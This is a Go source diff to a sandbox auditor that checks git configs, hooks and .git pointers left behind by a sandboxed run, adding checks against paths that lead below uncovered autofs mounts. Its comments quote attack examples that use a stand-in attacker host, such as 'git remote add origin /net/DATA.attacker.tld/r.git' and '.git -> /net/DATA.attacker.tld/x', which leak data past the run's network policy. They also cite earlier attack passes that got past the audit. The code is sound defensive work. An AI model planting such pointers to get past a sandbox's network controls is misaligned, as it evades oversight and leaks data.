@@ -264,14 +264,14 @@ func (a *auditor) globalInRoot(root string) {
 		for _, d := range dirs {
 			for _, h := range rel {
 				if p := a.resolve(h, d); p != "" {
-					if _, err := os.Lstat(p); err == nil {
+					if _, err := lstat(p); err == nil {
 						a.hookDir(p)
 					}
 				}
 			}
 			for _, t := range relTemplates {
 				if p := a.resolve(t, d); p != "" {
-					if _, err := os.Lstat(p); err == nil {
+					if _, err := lstat(p); err == nil {
 						a.templateDir(p)
 					}
 				}
@@ -312,7 +312,7 @@ func (a *auditor) templateDir(dir string) {
 	if real := leadsTo(dir); real != filepath.Clean(dir) && (a.fresh[real] || a.inFresh(real)) {
 		all = true
 	}
-	if fi, err := os.Lstat(dir); err == nil && fi.IsDir() && a.inFresh(filepath.Join(dir, "x")) {
+	if fi, err := lstat(dir); err == nil && fi.IsDir() && a.inFresh(filepath.Join(dir, "x")) {
 		all = true
 	}
 	// Every file is judged, however many and however deep: git copies
@@ -325,7 +325,7 @@ func (a *auditor) templateDir(dir string) {
 	var walk func(d string)
 	walk = func(d string) {
 		a.reach(d)
-		es, err := os.ReadDir(d)
+		es, err := readDir(d)
 		if err != nil {
 			if !errors.Is(err, fs.ErrNotExist) && !errors.Is(err, syscall.ENOTDIR) {
 				a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: %v (the git template directory was not checked)", d, err))
@@ -532,7 +532,7 @@ func (a *auditor) inFresh(p string) bool {
 		}
 		if !a.askedFresh[d] && a.walkable(d) && physical(d) == d {
 			a.askedFresh[d] = true
-			if fi, err := os.Lstat(d); err == nil && fi.IsDir() && a.movedIn(d, idOf(fi)) {
+			if fi, err := lstat(d); err == nil && fi.IsDir() && a.movedIn(d, idOf(fi)) {
 				a.fresh[d] = true
 				return true
 			}
@@ -588,11 +588,11 @@ func (a *auditor) freshAncestor(p string) string {
 // include to a hook or config staged in an earlier run (the next pass:
 // TestAuditThroughSymlinkInNewDirectory).
 func leadOut(fresh, p string) string {
-	rd, err := filepath.EvalSymlinks(fresh)
+	rd, err := evalSymlinks(fresh)
 	if err != nil {
 		rd = fresh
 	}
-	rp, err := filepath.EvalSymlinks(filepath.Dir(p))
+	rp, err := evalSymlinks(filepath.Dir(p))
 	if err != nil || within(rp, rd) {
 		return ""
 	}
@@ -603,7 +603,7 @@ func leadOut(fresh, p string) string {
 	d := fresh
 	for _, c := range strings.Split(rel, "/") {
 		d = filepath.Join(d, c)
-		fi, err := os.Lstat(d)
+		fi, err := lstat(d)
 		if err != nil {
 			return ""
 		}
@@ -617,7 +617,7 @@ func leadOut(fresh, p string) string {
 // ---- the walk ---------------------------------------------------------
 
 func (a *auditor) walkRoot(root string) error {
-	fi, err := os.Lstat(root)
+	fi, err := lstat(root)
 	if err != nil || !fi.IsDir() {
 		return nil
 	}
@@ -627,6 +627,10 @@ func (a *auditor) walkRoot(root string) error {
 	// The directories the cache knows are looked at a few at a time: the
 	// lstat calls are what a warm audit costs.
 	pre := prestat(a.cache, a.o.Parallel)
+	auto := autofsMounts()
+	if auto == nil {
+		auto = &autofsTable{}
+	}
 	type item struct {
 		dir     string
 		fresh   bool   // put where it is during the run, with all it holds
@@ -655,6 +659,9 @@ func (a *auditor) walkRoot(root string) error {
 			continue
 		}
 		id := idOf(fi)
+		if auto.uncovered[dir] {
+			continue // hidden in the sandbox; entering it may ask the automounter (autofs.go)
+		}
 		if it.dev != 0 && id.dev != it.dev && kernelFS(dir) {
 			continue // a kernel filesystem mounted here (a chroot's proc): no git state
 		}
@@ -712,7 +719,7 @@ func (a *auditor) visit(dir string, d dirInfo) error {
 		cl := filepath.Join(dir, ".claude")
 		a.reach(cl)
 		// Judged before the walk reaches .claude itself: moved in?
-		if fi, err := os.Lstat(cl); err == nil && fi.IsDir() && (a.fresh[dir] || a.movedIn(cl, idOf(fi))) {
+		if fi, err := lstat(cl); err == nil && fi.IsDir() && (a.fresh[dir] || a.movedIn(cl, idOf(fi))) {
 			a.fresh[cl] = true
 		} else if err == nil && fi.Mode()&fs.ModeSymlink != 0 {
 			// A symlinked .claude: a pointer, like a .git symlink.
@@ -760,7 +767,7 @@ func toolName(name string) bool { return toolNames[strings.ToLower(name)] }
 // toolFiles takes out the tool files (toolNames) of dir that the run made
 // or changed.
 func (a *auditor) toolFiles(dir string) {
-	es, err := os.ReadDir(dir)
+	es, err := readDir(dir)
 	if err != nil {
 		return
 	}
@@ -792,7 +799,7 @@ func insideGitAdmin(dir string) bool {
 }
 
 func (a *auditor) viaDotGit(worktree, dotgit string) {
-	lfi, err := os.Lstat(dotgit)
+	lfi, err := lstat(dotgit)
 	if err != nil {
 		return
 	}
@@ -808,13 +815,30 @@ func (a *auditor) viaDotGit(worktree, dotgit string) {
 			return
 		}
 	}
+	if (lfi.Mode()&fs.ModeSymlink != 0 || lfi.Mode().IsRegular()) && autofsOnWay(rawPointer(dotgit), true) {
+		// A .git symlink or file leading below an autofs mount nothing
+		// covers (sub/.git -> /net/DATA.attacker.tld/x): the user's git,
+		// like the audit, would ask the host's automounter for the name
+		// (attack pass 56, autofs.go). It goes where the audit may act;
+		// the user's own is left, and not followed.
+		take := ""
+		if a.changedAt(dotgit, lid) {
+			take = dotgit
+		} else if link := a.changedLinkOnWay(rawPointer(dotgit)); link != "" {
+			take = link // the run's symlink on the way of the user's pointer
+		}
+		if real, ok := a.changedActionable(take); ok && take != "" {
+			a.quarantine(real, autofsWhy("a .git pointer"))
+		}
+		return
+	}
 	if lfi.Mode()&fs.ModeSymlink != 0 {
 		// git follows a symlinked .git.
 		real := mustReal(dotgit)
 		if a.pointer(dotgit, real, a.changedAt(dotgit, lid)) {
 			res = append(res, dotgit)
 		}
-		fi, err := os.Stat(dotgit)
+		fi, err := stat(dotgit)
 		if err != nil {
 			return
 		}
@@ -857,7 +881,7 @@ func (a *auditor) viaDotGit(worktree, dotgit string) {
 func (a *auditor) pointer(file, target string, changed bool) bool {
 	key := target + "\x00" + dirIdentity(target)
 	if a.next != nil {
-		if a.unsettledAt(ctimeOf(file, os.Lstat)) || a.unsettledAt(ctimeOf(target, os.Stat)) {
+		if a.unsettledAt(ctimeOf(file, lstat)) || a.unsettledAt(ctimeOf(target, stat)) {
 			if a.cache != nil {
 				if old, ok := a.cache.redirects[file]; ok {
 					a.next.redirects[file] = old
@@ -877,7 +901,7 @@ func (a *auditor) pointer(file, target string, changed bool) bool {
 			// and move its hooks out: found by an attack pass,
 			// TestAuditOtherUsersRetargetedPointer); a symlink on its way
 			// retargeted during the run is (TestAuditPointerRetargetedBySandbox).
-			if a.changed(fileID{ctime: ctimeOf(file, os.Lstat)}) || a.wayChangedInRun(target) || a.wayChangedInRun(physical(target)) || a.changedLinkOnWay(rawPointer(file)) != "" {
+			if a.changed(fileID{ctime: ctimeOf(file, lstat)}) || a.wayChangedInRun(target) || a.wayChangedInRun(physical(target)) || a.changedLinkOnWay(rawPointer(file)) != "" {
 				a.fresh[target] = true
 			}
 			return true
@@ -917,10 +941,10 @@ func (a *auditor) linkedAway(p string) bool {
 	if a.next != nil {
 		// A sandbox still running may be in the middle of a swap: keep
 		// the last record, so that the audit after it compares with it.
-		unsettled := a.unsettledAt(ctimeOf(p, os.Lstat))
+		unsettled := a.unsettledAt(ctimeOf(p, lstat))
 		for _, w := range way {
 			path, _, _ := strings.Cut(w, "\x00")
-			unsettled = unsettled || a.unsettledAt(ctimeOf(path, os.Lstat))
+			unsettled = unsettled || a.unsettledAt(ctimeOf(path, lstat))
 		}
 		if unsettled {
 			if a.cache != nil {
@@ -943,7 +967,7 @@ func (a *auditor) linkedAway(p string) bool {
 	// changed on the way changed during the run (a directory renamed into
 	// place is stamped by the rename, a symlink retargeted stamps itself);
 	// the user's own change between two runs is not judged.
-	if a.changed(fileID{ctime: ctimeOf(p, os.Lstat)}) {
+	if a.changed(fileID{ctime: ctimeOf(p, lstat)}) {
 		return true
 	}
 	_, oldWay, _ := strings.Cut(old, "\x00")
@@ -956,7 +980,7 @@ func (a *auditor) linkedAway(p string) bool {
 			continue
 		}
 		path, _, _ := strings.Cut(w, "\x00")
-		if a.changed(fileID{ctime: ctimeOf(path, os.Lstat)}) {
+		if a.changed(fileID{ctime: ctimeOf(path, lstat)}) {
 			return true
 		}
 	}
@@ -973,7 +997,7 @@ func (a *auditor) wayOf(real string) []string {
 	var out []string
 	for d := real; a.inRoots(d); d = filepath.Dir(d) {
 		if d == real {
-			if fi, err := os.Stat(d); err == nil && !fi.IsDir() {
+			if fi, err := stat(d); err == nil && !fi.IsDir() {
 				continue
 			}
 		}
@@ -1000,14 +1024,14 @@ func (a *auditor) isRoot(d string) bool {
 // (a dangling hooks symlink whose directory was renamed into place later
 // escaped: found by an outside attack pass).
 func leadsTo(p string) string {
-	if real, err := filepath.EvalSymlinks(p); err == nil {
+	if real, err := evalSymlinks(p); err == nil {
 		return real
 	}
-	fi, err := os.Lstat(p)
+	fi, err := lstat(p)
 	if err != nil || fi.Mode()&fs.ModeSymlink == 0 {
 		return physical(p)
 	}
-	t, err := os.Readlink(p)
+	t, err := readlink(p)
 	if err != nil {
 		return physical(p)
 	}
@@ -1019,7 +1043,7 @@ func leadsTo(p string) string {
 
 // identity is the device and inode of what p leads to, "-" if nothing.
 func identity(p string) string {
-	fi, err := os.Stat(p)
+	fi, err := stat(p)
 	if err != nil {
 		return "-"
 	}
@@ -1039,7 +1063,7 @@ func ctimeOf(p string, stat func(string) (os.FileInfo, error)) int64 {
 // dirIdentity is the device and inode of the directory p leads to, "-" if
 // there is none.
 func dirIdentity(p string) string {
-	fi, err := os.Stat(p)
+	fi, err := stat(p)
 	if err != nil || !fi.IsDir() {
 		return "-"
 	}
@@ -1079,6 +1103,14 @@ func (a *auditor) repo(g, worktree string, resolution []string) {
 		changed := a.changedAt(cd, id)
 		if procOnWay(rawPointer(cd)) {
 			canonical, changed = false, true // leads elsewhere for git than for moat
+		}
+		if autofsOnWay(rawPointer(cd), true) {
+			// Below an autofs mount nothing covers (attack pass 56,
+			// autofs.go): one the run wrote goes; nothing resolves it.
+			if real, ok := a.actionable(cd); ok && changed {
+				a.quarantine(real, autofsWhy("a commondir"))
+			}
+			return
 		}
 		if changed && !canonical {
 			if real, ok := a.actionable(cd); ok {
@@ -1184,7 +1216,7 @@ func (a *auditor) repo(g, worktree string, resolution []string) {
 	for _, d := range []string{"remotes", "branches"} {
 		dir := filepath.Join(common, d)
 		a.reach(dir)
-		es, err := os.ReadDir(dir)
+		es, err := readDir(dir)
 		if err != nil {
 			continue
 		}
@@ -1207,7 +1239,7 @@ func (a *auditor) repo(g, worktree string, resolution []string) {
 	}
 	// Linked worktrees and submodules have git directories of their own.
 	a.reach(filepath.Join(common, "worktrees"))
-	if wts, err := os.ReadDir(filepath.Join(common, "worktrees")); err == nil {
+	if wts, err := readDir(filepath.Join(common, "worktrees")); err == nil {
 		for _, w := range wts {
 			if w.IsDir() {
 				a.repo(filepath.Join(common, "worktrees", w.Name()), "", nil)
@@ -1241,7 +1273,7 @@ func (a *auditor) modules(dir string, _ int) {
 	var walk func(dir string)
 	walk = func(dir string) {
 		a.reach(dir)
-		if fi, err := os.Stat(dir); err == nil {
+		if fi, err := stat(dir); err == nil {
 			id := idOf(fi)
 			k := fileID{dev: id.dev, ino: id.ino}
 			if seen[k] {
@@ -1249,7 +1281,7 @@ func (a *auditor) modules(dir string, _ int) {
 			}
 			seen[k] = true
 		}
-		es, err := os.ReadDir(dir)
+		es, err := readDir(dir)
 		if err != nil {
 			if !errors.Is(err, fs.ErrNotExist) && !errors.Is(err, syscall.ENOTDIR) {
 				a.rep.Incomplete = append(a.rep.Incomplete, fmt.Sprintf("%s: %v (submodule git directories there were not checked)", dir, err))
@@ -1259,7 +1291,7 @@ func (a *auditor) modules(dir string, _ int) {
 		for _, e := range es {
 			p := filepath.Join(dir, e.Name())
 			if e.Type()&fs.ModeSymlink != 0 {
-				fi, err := os.Stat(p)
+				fi, err := stat(p)
 				if err != nil || !fi.IsDir() {
 					continue
 				}
@@ -1282,7 +1314,7 @@ func (a *auditor) modules(dir string, _ int) {
 				return
 			}
 			a.budget++
-			if _, err := os.Lstat(filepath.Join(p, "HEAD")); err == nil {
+			if _, err := lstat(filepath.Join(p, "HEAD")); err == nil {
 				a.repo(p, "", nil)
 			}
 			walk(p) // names may hold slashes; nested submodules (p/modules)
@@ -1315,7 +1347,7 @@ func (a *auditor) configFile(p string, depth int) []Entry {
 			return nil
 		}
 	}
-	lfi, err := os.Lstat(p)
+	lfi, err := lstat(p)
 	if err != nil {
 		if link := a.wayLinkToTakeOut(p); link != "" {
 			if real, ok := a.changedActionable(link); ok {
@@ -1341,8 +1373,8 @@ func (a *auditor) configFile(p string, depth int) []Entry {
 		// run: the file is what is judged and rewritten. It was taken for
 		// unchanged, the symlink being out of the audit's reach, and its
 		// core.fsmonitor ran (found by attack pass 47).
-		if t, terr := filepath.EvalSymlinks(p); terr == nil && a.inRoots(t) && a.foreignLinkOnWay(p) == "" {
-			if tfi, lerr := os.Lstat(t); lerr == nil && tfi.Mode().IsRegular() && idOf(tfi) == id {
+		if t, terr := evalSymlinks(p); terr == nil && a.inRoots(t) && a.foreignLinkOnWay(p) == "" {
+			if tfi, lerr := lstat(t); lerr == nil && tfi.Mode().IsRegular() && idOf(tfi) == id {
 				a.judgedAs(t, id)
 				if real, ok = a.changedActionable(t); ok {
 					lfi = tfi
@@ -1375,6 +1407,8 @@ func (a *auditor) configFile(p string, depth int) []Entry {
 				risks = append(risks, e.Name+": "+r)
 			} else if r := a.procURL(real, e); r != "" {
 				risks = append(risks, e.Name+": "+r)
+			} else if r := a.autofsURL(real, e); r != "" {
+				risks = append(risks, e.Name+": "+r)
 			}
 		}
 		if len(risks) > 0 && a.quarantineReached(p, real, "a git config that sets "+strings.Join(risks, "; ")) {
@@ -1405,6 +1439,10 @@ func (a *auditor) configFile(p string, depth int) []Entry {
 				continue
 			}
 			if r := a.procURL(p, e); r != "" {
+				risks = append(risks, e.Name+": "+r)
+				continue
+			}
+			if r := a.autofsURL(p, e); r != "" {
 				risks = append(risks, e.Name+": "+r)
 				continue
 			}
@@ -1468,7 +1506,7 @@ func (a *auditor) hookDir(dir string) bool {
 			}
 		}
 	}
-	es, err := os.ReadDir(dir)
+	es, err := readDir(dir)
 	if err != nil {
 		if link := a.wayLinkToTakeOut(dir); link != "" && !errors.Is(err, fs.ErrNotExist) {
 			// Its hooks cannot be checked: the symlink the run made to
@@ -1488,7 +1526,7 @@ func (a *auditor) hookDir(dir string) bool {
 	all := swapped
 	if did, err := lstatID(dir); err == nil && a.changedAt(dir, did) {
 		all = true
-		if fi, err := os.Lstat(dir); err == nil && fi.Mode()&fs.ModeSymlink != 0 && !swapped {
+		if fi, err := lstat(dir); err == nil && fi.Mode()&fs.ModeSymlink != 0 && !swapped {
 			// The symlink is what the run made (or moved in): it goes,
 			// not the hooks of whatever directory it names (another
 			// user's symlink to root's hooks made root's audit move them
@@ -1561,7 +1599,7 @@ func (a *auditor) linkedHookChanged(p string) bool {
 			return true
 		}
 	}
-	t, err := filepath.EvalSymlinks(p)
+	t, err := evalSymlinks(p)
 	if err != nil || !a.inRoots(t) {
 		return false
 	}
@@ -1598,7 +1636,7 @@ func (a *auditor) settingsFile(p string) {
 	// Through a symlink, the file it leads to too (written, or renamed
 	// there, during the run).
 	tid := id
-	if fi, err := os.Stat(p); err == nil {
+	if fi, err := stat(p); err == nil {
 		tid = idOf(fi)
 		changed = changed || a.changed(tid)
 	}
@@ -1651,11 +1689,11 @@ func (a *auditor) hiddenRemote(u, base string) {
 		cands = append(cands, p+suf)
 	}
 	for _, c := range cands {
-		real, err := filepath.EvalSymlinks(c)
+		real, err := evalSymlinks(c)
 		if err != nil {
 			continue
 		}
-		if fi, err := os.Stat(real); err == nil && fi.Mode().IsRegular() {
+		if fi, err := stat(real); err == nil && fi.Mode().IsRegular() {
 			// enter_repo takes a file there for a .git file and goes
 			// where it leads (a remote naming notes.txt, "gitdir:
 			// .git/stash/evil.git", ran that repository's pre-receive).
@@ -1669,9 +1707,9 @@ func (a *auditor) hiddenRemote(u, base string) {
 			continue
 		}
 		g := real
-		if _, err := os.Lstat(filepath.Join(real, "HEAD")); err != nil {
+		if _, err := lstat(filepath.Join(real, "HEAD")); err != nil {
 			g = filepath.Join(real, ".git")
-			if fi, err := os.Stat(g); err != nil || !fi.IsDir() {
+			if fi, err := stat(g); err != nil || !fi.IsDir() {
 				continue
 			}
 		}
@@ -1791,7 +1829,7 @@ func hexByte(h, l byte) (byte, bool) {
 func inSkippedObjects(p string) bool {
 	for d := p; d != "/" && d != "."; d = filepath.Dir(d) {
 		if gitObjectDir(filepath.Base(d)) && filepath.Base(filepath.Dir(d)) == "objects" {
-			if _, err := os.Lstat(filepath.Join(filepath.Dir(filepath.Dir(d)), "HEAD")); err == nil {
+			if _, err := lstat(filepath.Join(filepath.Dir(filepath.Dir(d)), "HEAD")); err == nil {
 				return true
 			}
 		}
@@ -1805,7 +1843,7 @@ func inSkippedObjects(p string) bool {
 func legacyRemoteURLs(g string) []string {
 	var out []string
 	for _, d := range []string{"remotes", "branches"} {
-		es, err := os.ReadDir(filepath.Join(g, d))
+		es, err := readDir(filepath.Join(g, d))
 		if err != nil {
 			continue
 		}
@@ -1862,7 +1900,7 @@ func (a *auditor) protectedFile(p string) bool {
 	if a.o.Protected(p) {
 		return true
 	}
-	if dir, err := filepath.EvalSymlinks(filepath.Dir(p)); err == nil {
+	if dir, err := evalSymlinks(filepath.Dir(p)); err == nil {
 		return a.o.Protected(filepath.Join(dir, filepath.Base(p)))
 	}
 	return false
@@ -1891,7 +1929,7 @@ func (a *auditor) changedActionable(p string) (string, bool) {
 	if testHookResolve != nil {
 		testHookResolve(p)
 	}
-	dir, err := filepath.EvalSymlinks(filepath.Dir(p))
+	dir, err := evalSymlinks(filepath.Dir(p))
 	if err != nil {
 		return p, false
 	}
@@ -1959,7 +1997,7 @@ func (a *auditor) resolve(v, base string) string { return ConfigPath(v, base, a.
 // link). filepath.EvalSymlinks walks the path that way; a path that does
 // not resolve is cleaned as text (nothing is there for git either).
 func physical(p string) string {
-	if r, err := filepath.EvalSymlinks(p); err == nil {
+	if r, err := evalSymlinks(p); err == nil {
 		return r
 	}
 	// Resolve the longest prefix that exists, then add the rest as text.
@@ -1969,7 +2007,7 @@ func physical(p string) string {
 		if head == "" {
 			head = "/"
 		}
-		if r, err := filepath.EvalSymlinks(head); err == nil {
+		if r, err := evalSymlinks(head); err == nil {
 			return filepath.Join(append([]string{r}, parts[i:]...)...)
 		}
 	}
@@ -1977,14 +2015,14 @@ func physical(p string) string {
 }
 
 func mustReal(p string) string {
-	if r, err := filepath.EvalSymlinks(p); err == nil {
+	if r, err := evalSymlinks(p); err == nil {
 		return r
 	}
 	return p
 }
 
 func lstatID(p string) (fileID, error) {
-	fi, err := os.Lstat(p)
+	fi, err := lstat(p)
 	if err != nil {
 		return fileID{}, err
 	}
@@ -1997,6 +2035,9 @@ const maxConfigSize = 1 << 20
 // git does), refusing anything else (a FIFO, a device, a directory) and
 // anything larger than max.
 func readSmall(p string, max int64) ([]byte, fileID, error) {
+	if autofsOnWay(p, true) {
+		return nil, fileID{}, &fs.PathError{Op: "open", Path: p, Err: errAutofs}
+	}
 	f, err := os.OpenFile(p, os.O_RDONLY|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
 	if err != nil {
 		return nil, fileID{}, err
@@ -2229,7 +2270,7 @@ func (a *auditor) hiddenURL(p string, e Entry) string {
 			c = base + "/" + u // ".." after a symlink, as the kernel takes it
 		}
 		c = physical(c)
-		if fi, err := os.Stat(c); err == nil && fi.Mode().IsRegular() {
+		if fi, err := stat(c); err == nil && fi.Mode().IsRegular() {
 			if t, _, _, ok := readGitfile(c); ok {
 				c = t // a .git file: git goes where it leads
 			}
@@ -2280,16 +2321,64 @@ func (a *auditor) procURL(p string, e Entry) string {
 	return ""
 }
 
+// autofsURL says why e, a remote's or a submodule's URL in config p, is a
+// local path below an autofs mount nothing covers, or "": the user's git
+// push or fetch would ask the host's automounter for a name the command
+// chose (git remote add origin /net/DATA.attacker.tld/r.git; attack pass
+// 56, autofs.go). Relative URLs are judged from the work tree and from
+// the git directory, as procURL does.
+func (a *auditor) autofsURL(p string, e Entry) string {
+	if !e.HasValue {
+		return ""
+	}
+	switch e.Section() + "." + e.Key() {
+	case "remote.url", "remote.pushurl", "submodule.url",
+		"remote.pushdefault", "branch.pushremote", "branch.remote":
+	default:
+		return ""
+	}
+	u, ok := remotePath(e.Value)
+	if !ok || !strings.Contains(u, "/") {
+		return ""
+	}
+	for _, base := range []string{filepath.Dir(filepath.Dir(p)), filepath.Dir(p)} {
+		c := u
+		switch {
+		case strings.HasPrefix(u, "~"):
+			c = ConfigPath(u, base, a.o.Home)
+		case !filepath.IsAbs(u):
+			c = base + "/" + u
+		}
+		if c != "" && autofsOnWay(c, true) {
+			return "names " + quoteName(e.Value) + ", " + autofsWhere
+		}
+	}
+	return ""
+}
+
+// autofsWhere says what a path below an autofs mount nothing covers
+// does.
+const autofsWhere = "a path below an autofs mount nothing is mounted on: a lookup there asks the host's automounter (a root daemon) for a name the sandboxed command chose, past the run's network policy"
+
+// autofsWhy is the reason a pointer (what) that leads below an autofs
+// mount nothing covers is taken out for.
+func autofsWhy(what string) string {
+	return what + " that leads to " + autofsWhere + " (moat looks no further)"
+}
+
 // walkWay resolves p as the kernel resolves it (each ".." applying to the
 // directory reached so far, a symlink's text put in its place) and calls
 // step with each component reached: its path, its lstat, and, for a
 // symlink, where its text leads (a path). It returns the first path step
 // accepts, "" if none; loop is true when more than 40 symlinks were met
-// (the kernel's ELOOP). A component that is not there ends the walk.
+// (the kernel's ELOOP). A component that is not there ends the walk, and
+// so does one whose lookup would ask the host's automounter for its name
+// (autofs.go: a planted pointer to /net/NAME, attack pass 56).
 func walkWay(p string, step func(next string, fi fs.FileInfo, target string) bool) (found string, loop bool) {
 	if !filepath.IsAbs(p) {
 		return "", false
 	}
+	auto := autofsMounts()
 	todo := strings.Split(strings.TrimPrefix(p, "/"), "/")
 	d := "/"
 	for n := 0; len(todo) > 0; {
@@ -2301,6 +2390,9 @@ func walkWay(p string, step func(next string, fi fs.FileInfo, target string) boo
 		case "..":
 			d = filepath.Dir(d)
 			continue
+		}
+		if auto.asks(d, c) {
+			return "", false
 		}
 		next := filepath.Join(d, c)
 		fi, err := os.Lstat(next)
@@ -2424,7 +2516,7 @@ func (a *auditor) wayLinkToTakeOut(p string) string {
 // out for: one the run made or retargeted, or another user's, which is
 // what goes when the run's changed link lies past it (attack pass 52).
 func (a *auditor) wayLinkWhy(link string) string {
-	if fi, err := os.Lstat(link); err == nil {
+	if fi, err := lstat(link); err == nil {
 		if uid, ok := ownerOf(fi); ok && uid != auditorUID() && uid != 0 {
 			return "another user's symlink, with a symlink the run changed past it,"
 		}
@@ -2501,7 +2593,7 @@ func perProcess(p string) bool {
 // resolved: a symlink itself, or the directory a .git file or commondir
 // names (relative to the file's directory).
 func rawPointer(file string) string {
-	fi, err := os.Lstat(file)
+	fi, err := lstat(file)
 	if err != nil {
 		return ""
 	}
